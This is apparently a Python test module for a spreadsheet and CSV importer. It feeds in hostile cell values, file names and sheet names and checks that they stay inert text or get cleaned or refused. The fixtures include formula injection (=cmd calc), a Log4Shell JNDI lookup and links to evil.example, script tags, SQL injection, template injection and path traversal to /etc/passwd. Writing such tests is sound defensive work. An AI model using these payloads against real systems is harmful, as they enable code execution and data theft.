"""Text that would be code somewhere else: it stays text, or the row is refused."""

from tests.exchange.corpus.making import OK, Case, csv_bytes, row, sheet_xml, table, workbook

KEPT = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example")',
    "+1+1 workshop",
    "-2+3 workshop",
    "@SUM(1+1)*cmd",
    "<script>alert(1)</script>",
    "'); DROP TABLE activity;--",
    "{{7*7}} workshop",
    "${jndi:ldap://evil.example}",
    ":red[board] workshop",
    "![x](https://evil.example/p.png)",
    "../../etc/passwd",
    "%s%s%s%n workshop",
    'Robert"; SELECT 1',
    "l’été à Zürich",
    "Ωmega 😀 workshop",
    "\u200eLeft to right\u200f",
)
CLEANED = {
    "Library\u202elaw": "Librarylaw",
    "Library\ufffe law": "Library law",
    "Library\x07 law": "Library law",
    "Cafe\u0301 workshop": "Café workshop",
    "Library\tlaw": "Library law",
}


def _kept(words):
    return Case(
        f"hostile: {words!r}"[:60], "log.xlsx", lambda: _book(words), (OK,), ({"title": words},)
    )


def _book(words):
    def change(book):
        book.active["A2"].data_type = "s"

    return workbook(table(row(words)), change)


def _csv(words, expected):
    return Case(
        f"hostile in CSV: {words!r}"[:60],
        "log.csv",
        lambda: csv_bytes(table(row(words))),
        (OK,),
        ({"title": expected},),
    )


def _surrogate(xml):
    return xml.replace("Library law workshop", "Library \ud800 law")


CASES = (
    *(_kept(words) for words in KEPT),
    *(_csv(words, words) for words in KEPT[:8]),
    *(_csv(words, expected) for words, expected in CLEANED.items()),
    Case(
        "hostile: a lone surrogate in the XML",
        "log.xlsx",
        lambda: sheet_xml(inline(), _surrogate),
        (),
        refused="damaged",
    ),
    Case(
        "hostile: file name with a path",
        "../../../etc/passwd\x00<b>.csv",
        lambda: csv_bytes(table(row())),
        (OK,),
    ),
    Case(
        "hostile: sheet name that is code",
        "log.xlsx",
        lambda: workbook(table(row()), sheet="=1+1 <b>x<b>"),
        (OK,),
    ),
    Case(
        "hostile: a header that is code",
        "log.csv",
        lambda: csv_bytes([["Title", "First day", "=cmd|' /C calc'!A0"], ["A ws", "2012", "x"]]),
        (OK,),
        dropped=1,
    ),
)


def inline():
    """A workbook whose texts stand in the sheet itself."""
    cells = "".join(
        "<row>" + "".join(f'<c t="inlineStr"><is><t>{c}</t></is></c>' for c in r) + "</row>"
        for r in table(row())
    )
    return sheet_xml(
        workbook(table(row())),
        lambda xml: xml[: xml.index("<sheetData>") + 11] + cells + xml[xml.index("</sheetData>") :],
    )
